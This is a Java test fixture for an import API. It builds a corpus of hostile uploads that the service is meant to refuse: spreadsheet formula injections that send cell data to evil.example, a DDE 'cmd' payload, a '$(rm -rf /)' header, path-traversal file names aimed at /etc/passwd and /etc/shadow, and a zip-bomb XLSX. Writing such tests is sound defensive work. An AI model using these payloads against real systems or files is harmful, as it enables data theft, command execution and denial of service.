package org.orggraph.api;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The import rows and files of the hostile-input corpus: what a careless export, a broken script or an attacker
 * uploads to {@code /api/import}. Every one of them must be refused with a code; none may be written.
 */
final class HostileImportFiles {

    /** One upload: the part's file name and its bytes. */
    record Upload(String what, String fileName, byte[] content) {
        @Override
        public String toString() {
            return what + " (" + fileName + ")";
        }
    }

    private static final String PERSON_HEADER = "id,name,birthYear\n";

    private HostileImportFiles() {
    }

    static List<Upload> all() {
        List<Upload> all = new ArrayList<>();
        for (String formula : List.of("=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")", "=1+1",
                "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"\"http://evil.example/\"\",A1),\"\"//a\"\")")) {
            all.add(csv("formula injection " + formula, "hostile:person:1,\"" + formula + "\",1980\n"));
        }
        all.add(csv("a huge cell", "hostile:person:1," + "曾".repeat(20_000) + ",1980\n"));
        all.add(csv("a NUL byte in a name", "hostile:person:1,曾\u0000小贤,1980\n"));
        all.add(csv("a bell and an escape in a name", "hostile:person:1,曾\u0007\u001b[31m小贤,1980\n"));
        all.add(new Upload("invalid UTF-8 in a number", "Person.csv", concat(PERSON_HEADER.getBytes(StandardCharsets.UTF_8),
                "hostile:person:1,name,19".getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF},
                "\n".getBytes(StandardCharsets.UTF_8))));
        all.add(new Upload("only invalid UTF-8", "Person.csv", new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0xC0,
                (byte) 0x80, (byte) 0xED, (byte) 0xA0, (byte) 0x80}));
        String manyColumns = IntStream.range(0, 10_000).mapToObj(i -> "c" + i).collect(Collectors.joining(","));
        all.add(new Upload("10,000 columns", "Person.csv", utf8(manyColumns + "\n" + ",".repeat(9_999) + "\n")));
        all.add(csv("an unclosed quote", "hostile:person:1,\"曾小贤,1980\n"));
        all.add(new Upload("an empty file", "Person.csv", new byte[0]));
        all.add(new Upload("a header only of unknown columns", "Person.csv", utf8("$(rm -rf /),{{label}}\n")));
        all.add(new Upload("deeply nested JSON", "Activity.json",
                utf8("[{\"id\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}]")));
        all.add(new Upload("JSON that is not an array", "Activity.json", utf8("{\"id\": \"qw:activity:x\"}")));
        all.add(new Upload("truncated JSON", "Activity.json", utf8("[{\"id\": \"qw:activity:x\", \"name\": ")));
        all.add(new Upload("JSON with a huge number", "Person.json",
                utf8("[{\"id\": \"hostile:person:1\", \"name\": \"x\", \"birthYear\": 1" + "0".repeat(5_000) + "}]")));
        all.add(new Upload("a formula in JSON", "Person.json",
                utf8("[{\"id\": \"hostile:person:1\", \"name\": \"=HYPERLINK(\\\"http://evil.example\\\")\"}]")));
        all.add(new Upload("a zip bomb XLSX", "Person.xlsx", zipBomb()));
        all.add(new Upload("random bytes as XLSX", "Person.xlsx", "PK\u0003\u0004garbage".getBytes(StandardCharsets.ISO_8859_1)));
        all.add(new Upload("a CSV named XLSX", "Person.xlsx", utf8(PERSON_HEADER + "hostile:person:1,x,1980\n")));
        for (String name : List.of("../../../../etc/passwd", "..\\..\\Windows\\win.ini", "/etc/shadow",
                "Person.csv\u0000.exe", "C:\\Person.exe", "%2e%2e%2fPerson.csv", "")) {
            all.add(new Upload("a path-like file name", name, utf8(PERSON_HEADER + "hostile:person:1,x,1980\n")));
        }
        all.add(new Upload("a path-like name of a known type with a hostile row", "../../data/users/../Person.csv",
                utf8(PERSON_HEADER + "hostile:person:1,=1+1,1980\n")));
        return all;
    }

    private static Upload csv(String what, String rows) {
        return new Upload(what, "Person.csv", utf8(PERSON_HEADER + rows));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Arrays.stream(parts).forEach(out::writeBytes);
        return out.toByteArray();
    }

    /** A workbook whose one sheet inflates from about 50 KB to 50 MB: POI's inflate-ratio check must refuse it. */
    private static byte[] zipBomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            entry(zip, "[Content_Types].xml", """
                    <?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
                    <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
                    <Default Extension="xml" ContentType="application/xml"/>\
                    <Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>\
                    <Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>\
                    </Types>""");
            entry(zip, "_rels/.rels", """
                    <?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                    <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>\
                    </Relationships>""");
            entry(zip, "xl/workbook.xml", """
                    <?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
                    xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>\
                    <sheet name="Person" sheetId="1" r:id="rId1"/></sheets></workbook>""");
            entry(zip, "xl/_rels/workbook.xml.rels", """
                    <?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                    <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>\
                    </Relationships>""");
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write(utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/"
                    + "spreadsheetml/2006/main\"><sheetData>"));
            byte[] spaces = new byte[1 << 20];
            Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < 50; i++) {
                zip.write(spaces);
            }
            zip.write(utf8("</sheetData></worksheet>"));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static void entry(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(utf8(content));
        zip.closeEntry();
    }
}
